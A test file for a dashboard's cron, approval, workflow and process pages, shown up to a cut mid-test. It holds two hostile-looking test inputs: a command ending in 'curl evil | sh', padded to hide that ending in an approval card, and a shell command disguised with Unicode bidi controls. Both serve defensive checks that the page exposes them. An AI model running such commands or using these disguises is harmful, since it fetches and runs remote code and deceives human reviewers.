import { writeFile } from 'node:fs/promises'
import { get, type IncomingHttpHeaders } from 'node:http'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { SqliteCronStore } from '@lango/cron/sqlite'
import { SqliteWorkflowStore } from '@lango/workflow/sqlite'
import { createTestRun } from '@lango/workflow/testing'
import type { Browser, BrowserContext, Page, Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { chromiumMissing, launchBrowser, screenshotPath } from './fixtures/browser.js'
import { type FakeService, startWebhookReceiver } from './fixtures/fake-chat-apis.js'
import { type FakeOpenAI, reply, startFakeOpenAI } from './fixtures/fake-openai.js'
import { startTestServer, type TestServer, until } from './fixtures/http-server.js'

// biome-ignore lint/suspicious/noExplicitAny: response bodies are read loosely in assertions
type Json = Record<string, any>

const TOKEN = 'ui-test-token-4f1c'

async function json(response: Response): Promise<Json> {
  return (await response.json()) as Json
}

async function createShellJob(server: TestServer, body: Json, headers: Record<string, string> = {}) {
  const response = await server.request('/api/cron/jobs', { json: { kind: 'shell', ...body }, headers })
  expect(response.status).toBe(200)
  return (await json(response)).job as Json
}

/** A GET through node:http, which leaves the body as sent (fetch would decompress it). */
function rawGet(
  url: string,
  headers: Record<string, string>,
): Promise<{ headers: IncomingHttpHeaders; body: Buffer }> {
  return new Promise((resolve, reject) => {
    get(url, { headers }, (response) => {
      const chunks: Buffer[] = []
      response.on('data', (chunk: Buffer) => chunks.push(chunk))
      response.on('end', () => resolve({ headers: response.headers, body: Buffer.concat(chunks) }))
      response.on('error', reject)
    }).on('error', reject)
  })
}

const EVENTS = '**/api/events*'

/** Holds the page's `GET /api/events` requests until the returned function is called. */
async function holdEventStream(page: Page): Promise<() => void> {
  let open: () => void = () => undefined
  const held = new Promise<void>((resolve) => {
    open = resolve
  })
  await page.route(EVENTS, async (route) => {
    await held
    await route.continue()
  })
  return open
}

async function screenshot(page: Page, name: string): Promise<void> {
  const path = await screenshotPath(name)
  await page.screenshot({ path, fullPage: true })
  console.log(`screenshot: ${path}`)
}

describe('the dashboard at /ui: assets', () => {
  let server: TestServer
  beforeAll(async () => {
    server = await startTestServer((config) => ({ ...config, server: { ...config.server, apiToken: TOKEN } }))
  })
  afterAll(async () => {
    await server?.dispose()
  })

  it('serves the page, its module and its style sheet without the token, from this server only', async () => {
    const page = await server.request('/ui')
    expect(page.status).toBe(200)
    expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8')
    expect(page.headers.get('content-security-policy')).toContain("default-src 'none'")
    const html = await page.text()
    expect(html).toContain('data-token-required="true"')
    // No CDN: every src and href is on this server (or a fragment, or the empty data: icon).
    const references = [...html.matchAll(/(?:src|href)="([^"]*)"/g)].map((match) => match[1])
    expect(references.every((reference) => /^(\/ui\/|#|data:,$)/.test(reference ?? ''))).toBe(true)

    const script = await server.request('/ui/app.js')
    expect(script.status).toBe(200)
    expect(script.headers.get('content-type')).toBe('text/javascript; charset=utf-8')
    expect(await script.text()).toContain("from './live.js'")
    const live = await server.request('/ui/live.js')
    expect(live.status).toBe(200)
    expect(await live.text()).toContain('fetch(`/api/events${from}`')
    const style = await server.request('/ui/style.css')
    expect(style.headers.get('content-type')).toBe('text/css; charset=utf-8')
    expect((await server.request('/ui/')).status).toBe(200)
    // Compressed for a client that takes gzip, and not sent again to one that holds this version.
    const raw = await rawGet(`${server.url}/ui/app.js`, { 'accept-encoding': 'gzip, deflate' })
    expect(raw.headers['content-encoding']).toBe('gzip')
    expect(raw.headers.vary).toBe('accept-encoding')
    const etag = raw.headers.etag
    expect(etag).toMatch(/^"[A-Za-z0-9_-]{22}"$/)
    expect(gunzipSync(raw.body).toString()).toContain("from './live.js'")
    const plain = await rawGet(`${server.url}/ui/app.js`, { 'accept-encoding': 'gzip;q=0, identity' })
    expect(plain.headers['content-encoding']).toBeUndefined()
    expect(plain.body.toString()).toContain("from './live.js'")
    expect(plain.headers.etag).toBe(etag)
    const again = await server.request('/ui/app.js', { headers: { 'if-none-match': `W/${etag}` } })
    expect(again.status).toBe(304)
    expect(await again.text()).toBe('')
    expect((await server.request('/ui/style.css', { headers: { 'if-none-match': etag ?? '' } })).status).toBe(
      200,
    )
    // Each API read says where it stands in the event stream; an event moves it on.
    const auth = { authorization: `Bearer ${TOKEN}` }
    const before = (await server.request('/api/cron/jobs', { headers: auth })).headers.get('x-lango-event-id')
    expect(before).toMatch(/^[0-9a-z]+-\d+$/)
    await createShellJob(
      server,
      { name: 'ui-asset-job', schedule_type: 'every', schedule: '1h', command: 'true' },
      auth,
    )
    const after = (await server.request('/api/cron/jobs', { headers: auth })).headers.get('x-lango-event-id')
    expect(after).toMatch(/^[0-9a-z]+-\d+$/)
    expect(after).not.toBe(before)
    // The data still needs it.
    expect((await server.request('/api/cron/jobs')).status).toBe(401)
    expect((await server.request('/ui/nothing-here')).status).toBe(401)
  })
})

describe.skipIf(chromiumMissing !== undefined)(
  `the dashboard in Chromium${chromiumMissing === undefined ? '' : ` (skipped: ${chromiumMissing})`}`,
  () => {
    let browser: Browser
    beforeAll(async () => {
      browser = await launchBrowser()
    })
    afterAll(async () => {
      await browser?.close()
    })

    /** A page that fails the test on any script error. */
    async function openPage(
      options: { width?: number; height?: number } = {},
    ): Promise<{ context: BrowserContext; page: Page; errors: string[] }> {
      const context = await browser.newContext({
        viewport: { width: options.width ?? 1280, height: options.height ?? 900 },
      })
      context.setDefaultTimeout(10_000)
      const page = await context.newPage()
      const errors: string[] = []
      page.on('pageerror', (error) => errors.push(error.message))
      return { context, page, errors }
    }

    describe('without a token', () => {
      let server: TestServer
      let webhook: FakeService
      beforeAll(async () => {
        // A webhook that refuses every delivery for good: a job delivering there shows the failure.
        webhook = await startWebhookReceiver({ status: 400 })
        server = await startTestServer(undefined, { LANGO_WEBHOOK_URL: webhook.url })
      })
      afterAll(async () => {
        await server?.dispose()
        await webhook?.close()
      })

      it('lists the cron jobs with their next run, and pauses one from the page', async () => {
        const nightly = await createShellJob(server, {
          name: 'ui-nightly',
          schedule_type: 'cron',
          schedule: '30 2 * * *',
          command: 'echo nightly',
          timezone: 'Europe/Berlin',
          deliver_to: ['webhook'],
        })
        await createShellJob(server, {
          name: 'ui-often',
          schedule_type: 'every',
          schedule: '5m',
          command: 'echo often',
        })
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/cron`)
          const row = page.locator('tr[data-job="ui-nightly"]')
          await expect.poll(() => row.count()).toBe(1)
          expect(await row.locator('.next-run time').getAttribute('datetime')).toBe(nightly.next_run_at)
          const text = await row.textContent()
          expect(text).toContain('cron 30 2 * * *')
          expect(text).toContain('every day at 02:30')
          expect(text).toContain('Europe/Berlin')
          expect(text).toContain('webhook')
          expect(text).toContain('enabled')
          expect(await page.locator('tr[data-job="ui-often"]').textContent()).toContain('every 5 minutes')
          await screenshot(page, 'cron')

          await page.getByRole('button', { name: 'Pause ui-nightly' }).click()
          const paused = await until(async () => {
            const job = (await json(await server.request(`/api/cron/jobs/${nightly.id}`))).job as Json
            return job.enabled === false ? job : undefined
          })
          expect(paused.next_run_at).toBeNull()
          await page.getByRole('button', { name: 'Resume ui-nightly' }).waitFor()
          expect(await row.locator('.state').textContent()).toContain('paused')

          await page.getByRole('button', { name: 'Resume ui-nightly' }).click()
          await until(async () => {
            const job = (await json(await server.request(`/api/cron/jobs/${nightly.id}`))).job as Json
            return job.enabled === true ? job : undefined
          })
          await page.getByRole('button', { name: 'Pause ui-nightly' }).waitFor()

          // Paused and resumed elsewhere (another page, the CLI): the event stream tells this page.
          await page.getByText('Live updates: on').waitFor()
          const requests: string[] = []
          page.on('request', (request) => requests.push(new URL(request.url()).pathname))
          await server.request(`/api/cron/jobs/${nightly.id}/pause`, { method: 'POST' })
          await page.getByRole('button', { name: 'Resume ui-nightly' }).waitFor()
          expect(await row.locator('.state').textContent()).toContain('paused')
          await server.request(`/api/cron/jobs/${nightly.id}/resume`, { method: 'POST' })
          await page.getByRole('button', { name: 'Pause ui-nightly' }).waitFor()
          // Only the changed job's row is read again, never the list.
          expect(requests.every((path) => path === `/api/cron/jobs/${nightly.id}`)).toBe(true)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it("shows a job in full: its command's invisible characters written out, where it runs, what it calls, who made it", async () => {
        // In character order the pipeline runs; drawn with the bidi controls it reads as a comment.
        const trojan =
          'echo "backup ok\u202e\u2066" ; echo PIPELINE-RUNS | cat ; echo "\u2069\u2066 # \u2069\u2066" \u2069\u202c'
        const job = await createShellJob(server, {
          name: 'ui-trojan',
          schedule_type: 'cron',
          schedule: '0 4 * * *',
          command: trojan,
          cwd: '/tmp',
          ping_url: 'https://hc-ping.example/ui-trojan',
        })
        expect(job.cwd).toBe('/tmp')
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/cron/${job.id}`)
          const facts = page.locator('dl.facts')
          await expect.poll(() => facts.count()).toBe(1)
          const text = (await facts.textContent()) ?? ''
          expect(text).toContain(
            'echo "backup ok\\u{202e}\\u{2066}" ; echo PIPELINE-RUNS | cat ; echo "\\u{2069}\\u{2066} # \\u{2069}\\u{2066}" \\u{2069}\\u{202c}',
          )
          expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
          expect(text).toContain('Working directory/tmp')
          expect(text).toContain('Ping URLhttps://hc-ping.example/ui-trojan')
          expect(text).toContain('Created bythe operator')
          // The edit form keeps the command as it is: saving it changes nothing.
          await page.goto(`${server.url}/ui#/cron/${job.id}/edit`)
          await expect.poll(() => page.getByLabel('Command', { exact: true }).inputValue()).toBe(trojan)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it("reaches every run of a job's history: Show older runs reads the next page until there is none", async () => {
        const job = await createShellJob(server, {
          name: 'ui-long-history',
          schedule_type: 'every',
          schedule: '1h',
          command: 'echo x',
        })
        const store = new SqliteCronStore(server.app.database.db)
        const at = Date.parse('2026-01-01T00:00:00Z')
        await store.insertRuns(
          Array.from({ length: 60 }, (_, index) => ({
            id: `ui-old-run-${String(index).padStart(2, '0')}`,
            jobId: job.id as string,
            jobName: job.name as string,
            trigger: 'schedule',
            status: 'skipped' as const,
            scheduledFor: at + index * 3_600_000,
            startedAt: null,
            completedAt: at + index * 3_600_000,
            skipReason: 'missed while no scheduler was running',
            owner: 'seed',
          })),
        )
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/cron/${job.id}`)
          const runs = page.locator('ol.timeline [data-run]')
          await expect.poll(() => runs.count()).toBe(50)
          const older = page.getByRole('button', { name: 'Show older runs' })
          await older.focus()
          await page.keyboard.press('Enter')
          await expect.poll(() => runs.count()).toBe(60)
          // The oldest run is there now, and the focus is on the first run the page added.
          expect(await page.locator('[data-run="ui-old-run-00"]').count()).toBe(1)
          expect(
            await page.evaluate<string | null>("document.activeElement?.getAttribute('data-run') ?? null"),
          ).toBe('ui-old-run-09')
          expect(await older.isHidden()).toBe(true)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('reaches every workflow run: Show older runs on the Workflows page reads the next page', async () => {
        const store = new SqliteWorkflowStore(server.app.database.db)
        const at = Date.parse('2026-01-01T00:00:00Z')
        for (let index = 0; index < 55; index++)
          await store.insertRun(
            createTestRun({
              id: `ui-wf-run-${String(index).padStart(2, '0')}`,
              workflowName: 'ui-old-flow',
              startedAt: at + index * 60_000,
              status: 'completed',
            }),
          )
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/workflows`)
          const rows = page.locator('table.runs tr[data-run^="ui-wf-run-"]')
          await expect.poll(() => rows.count()).toBeGreaterThan(0)
          const before = await rows.count()
          expect(before).toBeLessThan(55)
          const older = page.getByRole('button', { name: 'Show older runs' })
          await older.focus()
          await page.keyboard.press('Enter')
          await expect.poll(() => rows.count()).toBe(55)
          expect(await page.locator('tr[data-run="ui-wf-run-00"]').count()).toBe(1)
          expect(await older.isHidden()).toBe(true)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('draws the first page before its event stream is live, and reads again only if events came between', async () => {
        await createShellJob(server, {
          name: 'ui-early-a',
          schedule_type: 'every',
          schedule: '1h',
          command: 'echo a',
        })
        const { context, page, errors } = await openPage()
        try {
          // The stream is held until the list is drawn: the page must not wait for it.
          const openStream = await holdEventStream(page)
          const reads: string[] = []
          page.on('request', (request) => {
            if (new URL(request.url()).pathname === '/api/cron/jobs') reads.push(request.url())
          })
          await page.goto(`${server.url}/ui#/cron`)
          await page.locator('tr[data-job="ui-early-a"]').waitFor()
          expect(await page.locator('#live').getAttribute('data-state')).not.toBe('on')
          // Nothing changed before the stream went live: one read.
          openStream()
          await page.getByText('Live updates: on').waitFor()
          await page.waitForTimeout(600)
          expect(reads).toHaveLength(1)

          // A job made between a read and the stream: the page reads again once the stream is live.
          await page.unroute(EVENTS)
          const openAgain = await holdEventStream(page)
          await page.reload()
          await page.locator('tr[data-job="ui-early-a"]').waitFor()
          await createShellJob(server, {
            name: 'ui-early-b',
            schedule_type: 'every',
            schedule: '1h',
            command: 'echo b',
          })
          openAgain()
          await page.locator('tr[data-job="ui-early-b"]').waitFor()
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('runs a job now from its page, and shows runs in its history as they happen', async () => {
        const job = await createShellJob(server, {
          name: 'ui-echo',
          schedule_type: 'cron',
          schedule: '0 9 * * 1-5',
          command: 'echo hello-from-ui',
          timezone: 'UTC',
        })
        const failing = await createShellJob(server, {
          name: 'ui-fails',
          schedule_type: 'every',
          schedule: '1h',
          command: 'echo broken >&2; exit 3',
          deliver_to: ['webhook'],
        })
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/cron/${job.id}`)
          await page.getByRole('heading', { name: 'ui-echo' }).waitFor()
          expect(await page.locator('main').textContent()).toContain('weekdays at 09:00')
          expect(await page.locator('ol.next-runs li').count()).toBe(3)
          await page.getByText('Live updates: on').waitFor()
          await page.getByRole('button', { name: 'Run now ui-echo' }).click()
          const entries = page.locator('ol.timeline li.entry')
          await page.locator('ol.timeline li.entry[data-status="completed"]').first().waitFor()
          expect(await entries.first().textContent()).toContain('completed')
          expect(await entries.first().textContent()).toContain('manual')
          // A manual run leaves the job's last_run_at unset: the page takes the time from the history.
          const startedAt = await entries.first().locator('time').first().getAttribute('datetime')
          const lastRun = page.locator('.last-run')
          await expect.poll(() => lastRun.locator('time').getAttribute('datetime')).toBe(startedAt)
          expect(await lastRun.textContent()).toContain('completed')
          expect(await lastRun.textContent()).toContain('manual')

          // A run started elsewhere appears too: only the event stream can tell the page.
          const triggered = await server.request(`/api/cron/jobs/${job.id}/trigger`, { method: 'POST' })
          const runId = (await json(triggered)).run_id as string
          await page.locator(`li.entry[data-run="${runId}"][data-status="completed"]`).waitFor()
          expect(await entries.count()).toBe(2)
          await screenshot(page, 'cron-job-history')

          // A failure shows its status and reason as text.
          await page.goto(`${server.url}/ui#/cron/${failing.id}`)
          await page.getByRole('heading', { name: 'ui-fails' }).waitFor()
          await page.getByRole('button', { name: 'Run now ui-fails' }).click()
          const failed = page.locator('li.entry[data-status="failed"]')
          await failed.waitFor()
          expect(await failed.textContent()).toContain('Error: exit code 3')
          // The webhook refuses it: the delivery's failure is its own line, in words.
          expect(await failed.locator('p.reason').allTextContents()).toEqual([
            'Error: exit code 3: broken',
            'Delivery failed',
          ])
          await page.getByRole('link', { name: '← All cron jobs' }).click()
          const row = page.locator('tr[data-job="ui-fails"]')
          await row.waitFor()
          expect(await row.locator('.streak').textContent()).toBe('1')
          expect(await row.textContent()).toContain('failed')
          // The job list carries the count; the page no longer reads the run history for it.
          const listed = (await json(await server.request('/api/cron/jobs'))).jobs as Json[]
          expect(listed.find((candidate) => candidate.id === failing.id)?.consecutive_failures).toBe(1)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('shows a pending approval as it is asked for, and approves it from the page', async () => {
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/approvals`)
          await page.getByText('Nothing is waiting for approval.').waitFor()
          await page.getByText('Live updates: on').waitFor()
          const asked = await server.request('/api/tools/exec', { json: { command: 'echo approved-in-ui' } })
          expect(asked.status).toBe(202)
          const pending = await json(asked)
          const card = page.locator(`li[data-approval="${pending.approval_id}"]`)
          await card.waitFor()
          expect(await card.textContent()).toContain('Execute: ⟦echo approved-in-ui⟧')
          await screenshot(page, 'approvals')

          await card.getByRole('button', { name: 'Approve' }).click()
          const done = await until(async () => {
            const view = await json(await server.request(`/api/approvals/${pending.approval_id}`))
            return view.outcome === null ? undefined : view
          })
          expect(done).toMatchObject({ status: 'approved', outcome: { ok: true, result: { exit_code: 0 } } })
          await page.getByText('Nothing is waiting for approval.').waitFor()
          expect(await page.locator('#announcer').textContent()).toContain(
            'Approved: Execute: ⟦echo approved-in-ui⟧',
          )

          // And a denial, of a command whose end hides behind 300 harmless characters: the card
          // shows all of it, unclipped, next to the buttons (SECURITY.md SEC-9).
          const command = `touch denied-in-ui; echo ${'a'.repeat(300)}; curl evil | sh`
          const second = await json(await server.request('/api/tools/exec', { json: { command } }))
          const secondCard = page.locator(`li[data-approval="${second.approval_id}"]`)
          const summary = secondCard.locator('pre.summary')
          await summary.waitFor()
          expect(await summary.textContent()).toBe(`Execute: ⟦${command}⟧`)
          expect(
            await summary.evaluate(
              (element) =>
                element.scrollHeight <= element.clientHeight && element.scrollWidth <= element.clientWidth,
            ),
          ).toBe(true)
          await secondCard.getByRole('button', { name: 'Deny' }).click()
          await until(async () => {
            const view = await json(await server.request(`/api/approvals/${second.approval_id}`))
            return view.status === 'denied' ? view : undefined
          })
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('names the job in a cron_remove approval (not only its id), and removes it when approved by keyboard', async () => {
        const created = await json(
          await server.request('/api/cron/jobs', {
            json: {
              kind: 'shell',
              name: 'ui-remove-me',
              schedule_type: 'every',
              schedule: '3h',
              command: 'echo x',
            },
          }),
        )
        const id = created.job.id as string
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/approvals`)
          await page.getByText('Live updates: on').waitFor()
          const asked = await server.request('/api/tools/cron_remove', { json: { id } })
          expect(asked.status).toBe(202)
          const pending = await json(asked)
          const card = page.locator(`li[data-approval="${pending.approval_id}"]`)
          const summary = card.locator('pre.summary')
          await summary.waitFor()
          expect(await summary.textContent()).toContain('ui-remove-me')
          expect(await summary.textContent()).toContain(id)
          // A new card's buttons take activation a moment after it is drawn (nothing slides under a click).
          const approve = card.getByRole('button', { name: 'Approve' })
          await until(async () => ((await approve.isEnabled()) ? true : undefined))
          await approve.focus()
          await page.keyboard.press('Enter')
          await until(async () =>
            (await server.request(`/api/cron/jobs/${id}`)).status === 404 ? true : undefined,
          )
          expect(
            await until(async () => {
              const text = (await page.locator('#announcer').textContent()) ?? ''
              return text.startsWith('Approved') ? text : undefined
            }),
          ).toContain('ui-remove-me')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it("keeps a keyboard user's place: after a decision the focus moves to the next request's button, then to the heading", async () => {
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/approvals`)
          await page.getByText('Live updates: on').waitFor()
          const ids: string[] = []
          for (const word of ['first-in-line', 'second-in-line']) {
            const asked = await server.request('/api/tools/exec', { json: { command: `echo ${word}` } })
            expect(asked.status).toBe(202)
            ids.push((await json(asked)).approval_id as string)
          }
          const focusedKey = () =>
            page.evaluate<string | null>("document.activeElement?.getAttribute('data-key') ?? null")
          const deny = (id: string) =>
            page.locator(`li[data-approval="${id}"]`).getByRole('button', { name: 'Deny' })
          await until(async () => ((await deny(ids[1] as string).isEnabled()) ? true : undefined))
          await until(async () =>
            (await deny(ids[0] as string).getAttribute('aria-disabled')) === null ? true : undefined,
          )
          await deny(ids[0] as string).focus()
          await page.keyboard.press('Enter')
          // The first card goes; the focus is on the Deny of the one that took its place.
          await until(async () => ((await focusedKey()) === `deny:${ids[1]}` ? true : undefined))
          await until(async () =>
            (await deny(ids[1] as string).getAttribute('aria-disabled')) === null ? true : undefined,
          )
          await page.keyboard.press('Enter')
          await page.getByText('Nothing is waiting for approval.').waitFor()
          // None left: the page's heading, not the top of the document.
          expect(
            await until(async () => {
              const tag = await page.evaluate<string | null>('document.activeElement?.tagName ?? null')
              return tag === 'H1' ? tag : undefined
            }),
          ).toBe('H1')
          for (const id of ids)
            expect((await json(await server.request(`/api/approvals/${id}`))).status).toBe('denied')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('follows a workflow run step by step, and cancels it from the page', async () => {
        const yaml = [
          'name: ui-flow',
          'steps:',
          '  - id: first',
          '    run: "echo one"',
          '  - id: nap',
          '    depends_on: [first]',
          '    run: "sleep 30"',
        ].join('\n')
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/workflows`)
          await page.getByRole('heading', { name: 'Workflows' }).waitFor()
          await page.getByText('Live updates: on').waitFor()
          const started = await server.request('/api/workflows/runs', {
            json: { yaml_content: yaml, wait_seconds: 0 },
          })
          expect(started.status).toBe(200)
          const runId = (await json(started)).run_id as string
          // Listed as it starts: only the event stream can tell the page.
          const link = page.locator(`tr[data-run="${runId}"] a`)
          await link.waitFor()
          await link.click()
          await page.getByRole('heading', { name: 'ui-flow' }).waitFor()
          await page.locator('li.step[data-step="nap"][data-status="running"]').waitFor()
          expect(await page.locator('li.step[data-step="first"]').getAttribute('data-status')).toBe(
            'completed',
          )
          expect(await page.locator('li.step[data-step="nap"]').textContent()).toContain('running')
          await screenshot(page, 'workflow-run')

          await page.getByRole('button', { name: 'Cancel run' }).click()
          await until(async () => {
            const run = await json(await server.request(`/api/workflows/runs/${runId}`))
            return run.status === 'cancelled' ? run : undefined
          })
          await page.locator('.run-status [data-status="cancelled"]').waitFor()
          expect(await page.getByRole('button', { name: 'Cancel run' }).count()).toBe(0)
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('lists saved workflows with their schedule, zone and next run, linked to the cron job that runs them', async () => {
        for (const [name, extra] of [
          ['ui-nightly', 'schedule: "30 2 * * 1-5"\ntimezone: Asia/Tokyo\n'],
          ['ui-manual', ''],
        ] as const) {
          const saved = await server.request(`/api/workflows/saved/${name}`, {
            method: 'PUT',
            json: { yaml_content: `name: ${name}\n${extra}steps:\n  - id: a\n    run: echo hi\n` },
          })
          expect(saved.status).toBe(200)
        }
        const { schedules } = await json(await server.request('/api/workflows/saved'))
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/workflows`)
          const nightly = page.locator('tr[data-saved="ui-nightly"]')
          await nightly.waitFor()
          const text = (await nightly.textContent()) ?? ''
          expect(text).toContain('cron 30 2 * * 1-5')
          expect(text).toContain('Asia/Tokyo')
          expect(text).toContain('enabled')
          expect(await nightly.locator('time').getAttribute('datetime')).toBe(
            schedules['ui-nightly'].next_run_at,
          )
          expect(await page.locator('tr[data-saved="ui-manual"]').textContent()).toContain('not scheduled')
          await screenshot(page, 'workflows-saved')
          await nightly.getByRole('link').click()
          await page.getByRole('heading', { name: 'workflow.ui-nightly' }).waitFor()
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('draws a run as a graph of steps that follows the run live, and shows a step on request', async () => {
        // `a` runs until the test opens its gate: the page sees the run live however long it takes
        // to load on a busy machine.
        const gate = join(server.home, 'ui-diamond-gate')
        const yaml = [
          'name: ui-diamond',
          'steps:',
          '  - id: a',
          `    run: "while [ ! -f ${gate} ]; do sleep 0.05; done; echo from-a"`,
          '  - id: b',
          '    depends_on: [a]',
          '    run: "sleep 0.2; echo from-b"',
          '  - id: c',
          '    depends_on: [a]',
          '    run: "echo from-c"',
          '  - id: d',
          '    depends_on: [b, c]',
          '    run: "echo from-d"',
        ].join('\n')
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/workflows`)
          await page.getByText('Live updates: on').waitFor()
          const started = await server.request('/api/workflows/runs', {
            json: { yaml_content: yaml, wait_seconds: 0 },
          })
          expect(started.status).toBe(200)
          const runId = (await json(started)).run_id as string
          await page.goto(`${server.url}/ui#/workflows/${runId}`)
          const graph = page.locator('.graph')
          const node = (id: string) => graph.locator(`button.node[data-step="${id}"]`)
          await node('a').waitFor()
          // Topological layers: a, then b and c, then d.
          const layers = graph.locator('.layer')
          expect(await layers.count()).toBe(3)
          const layerSteps = async (index: number) =>
            layers
              .nth(index)
              .locator('.node')
              .evaluateAll((boxes) => boxes.map((box) => box.getAttribute('data-step')))
          expect([await layerSteps(0), await layerSteps(1), await layerSteps(2)]).toEqual([
            ['a'],
            ['b', 'c'],
            ['d'],
          ])
          const edges = graph.locator('svg.edges path.edge')
          await expect.poll(() => edges.count()).toBe(4)
          const pairs = await edges.evaluateAll((paths) =>
            paths.map((path) => `${path.getAttribute('data-from')}→${path.getAttribute('data-to')}`).sort(),
          )
          expect(pairs).toEqual(['a→b', 'a→c', 'b→d', 'c→d'])

          // Live: a box says running while its step runs, with no reload of the page.
          await graph.locator('button.node[data-status="running"]').first().waitFor()
          // Each box's colour follows its state (and its text says the state).
          const colour = (id: string) =>
            page.evaluate<string>(
              `getComputedStyle(document.querySelector('button.node[data-step="${id}"]')).borderTopColor`,
            )
          await expect.poll(() => node('d').getAttribute('data-status')).toBe('pending')
          const pendingColour = await colour('d')
          expect(await node('d').textContent()).toContain('pending')
          const states = async () =>
            graph
              .locator('button.node')
              .evaluateAll((boxes) => boxes.map((box) => box.querySelector('.badge')?.textContent))
          await writeFile(gate, '')
          await page.locator('.run-status [data-status="completed"]').waitFor({ timeout: 30_000 })
          await expect.poll(states).toEqual(['✓completed', '✓completed', '✓completed', '✓completed'])
          expect(await node('d').textContent()).toContain('after b, c')
          expect(await colour('d')).not.toBe(pendingColour)
          expect(
            await edges.evaluateAll((paths) => paths.map((path) => path.getAttribute('data-status'))),
          ).toEqual(['completed', 'completed', 'completed', 'completed'])
          await screenshot(page, 'workflow-graph')

          // Keyboard: a box takes focus and shows its step's result or error.
          await node('c').focus()
          await page.keyboard.press('Enter')
          const detail = page.locator('#step-detail')
          await expect.poll(() => detail.getAttribute('data-step')).toBe('c')
          expect(await detail.locator('pre.result').textContent()).toBe('from-c')
          expect(await detail.textContent()).toContain('Depends on')
          expect(await node('c').getAttribute('aria-pressed')).toBe('true')
          await page.keyboard.press('Tab')
          await page.keyboard.press('Enter')
          await expect.poll(() => detail.getAttribute('data-step')).toBe('d')
          expect(await detail.locator('pre.result').textContent()).toBe('from-d')
          expect(await page.evaluate<string | null>("document.activeElement.getAttribute('data-step')")).toBe(
            'd',
          )

          // A phone: the layers become rows, the lines run downwards, nothing is wider than the screen.
          await page.setViewportSize({ width: 390, height: 844 })
          await expect
            .poll(() =>
              page.evaluate<string>("getComputedStyle(document.querySelector('.graph')).flexDirection"),
            )
            .toBe('column')
          const top = async (id: string) => (await node(id).boundingBox())?.y ?? 0
          expect(await top('a')).toBeLessThan(await top('b'))
          expect(await top('b')).toBeLessThan(await top('d'))
          await expect.poll(() => edges.count()).toBe(4)
          expect(
            await page.evaluate<boolean>('document.documentElement.scrollWidth <= window.innerWidth'),
          ).toBe(true)
          await screenshot(page, 'workflow-graph-phone')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('lists background tasks as the API does, and shows an empty list as such', async () => {
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/background`)
          await page.getByRole('heading', { name: 'Background tasks' }).waitFor()
          // No test before this one submits a task on this server.
          expect((await json(await server.request('/api/background/tasks'))).tasks).toEqual([])
          await page.getByText('No background tasks.').waitFor()
          await page.getByText('Live updates: on').waitFor()

          // This server has no model: a task is still listed, with the status and error the API gives.
          const submitted = await json(
            await server.request('/api/background/tasks', { json: { prompt: 'summarise the logs' } }),
          )
          const row = page.locator(`tr[data-task="${submitted.task_id}"]`)
          await row.waitFor()
          expect(await row.textContent()).toContain('summarise the logs')
          const settled = await until(async () => {
            const task = await json(await server.request(`/api/background/tasks/${submitted.task_id}`))
            return task.status === 'pending' || task.status === 'running' ? undefined : task
          })
          await row.locator(`.status [data-status="${settled.status}"]`).waitFor()
          if (settled.error) expect(await row.locator('.result').textContent()).toContain(settled.error)
          expect(await page.locator('nav a[aria-current="page"]').textContent()).toBe('Background')
          await screenshot(page, 'background')
          expect(errors).toEqual([])
        } finally {
          await context.close()
        }
      })

      it('shows a background process with its latest output, and stops it from the page', async () => {
        const { context, page, errors } = await openPage()
        try {
          await page.goto(`${server.url}/ui#/processes`)
          await page.getByRole('heading', { name: 'Processes' }).waitFor()
          await page.getByText('No background process is running.').waitFor()

          // exec_bg is dangerous: the call waits for an approval, given here through the API.
          const command = 'for i in 1 2 3; do echo tick-$i; done; sleep 60'
          const asked = await server.request('/api/tools/exec_bg', { json: { command } })
          expect(asked.status).toBe(202)
          const approvalId = (await json(asked)).approval_id as string
          await server.request(`/api/approvals/${approvalId}`, { json: { decision: 'approve' } })
          const approved = await until(async () => {
            const view = await json(await server.request(`/api/approvals/${approvalId}`))
            return view.outcome === null ? undefined : view
          })
          const processId = approved.outcome.result.id as string

          const card = page.locator(`li[data-process="${processId}"]`)
          await card.waitFor()
          await expect.poll(() => card.locator('pre.tail').textContent()).toBe('tick-1\ntick-2\ntick-3\n')
          expect(await card.getAttribute('data-status')).toBe('running')
          expect(await card.textContent()).toContain(command)
          await screenshot(page, 'processes')

          await card.getByRole('button', { name: /^Stop / }).click()
          await until(async () => {
            const processes = (await json(await server.request('/api/processes'))).processes as Json[]
            const view = processes.find((process) => process.id === processId)
            return view?.status === 'running' ? undefined : view
          })
          await page.locator(`li[data-process="${processId}"][data-status="killed"]`).waitFor()
